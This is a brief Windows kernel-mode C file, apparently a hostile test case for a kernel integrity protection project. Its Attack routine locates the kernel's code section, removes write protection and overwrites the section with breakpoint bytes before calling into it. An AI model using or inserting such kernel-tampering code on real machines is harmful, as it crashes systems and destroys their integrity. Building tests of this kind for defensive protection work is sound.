/* SPDX-License-Identifier: MIT */
/* Overwrites the kernel's code. */
#include "hostile.h"

static VOID Attack(VOID)
{
    ULONG size = 0;
    UCHAR *text = Section(ImageOf((VOID *)(ULONG_PTR)&KeIpiGenericCall), ".text", &size);

    Unprotect();
    Fill(text, 0xCC, size);
    KeIpiGenericCall((PKIPI_BROADCAST_WORKER)(ULONG_PTR)&ReadCr0, 0);
}
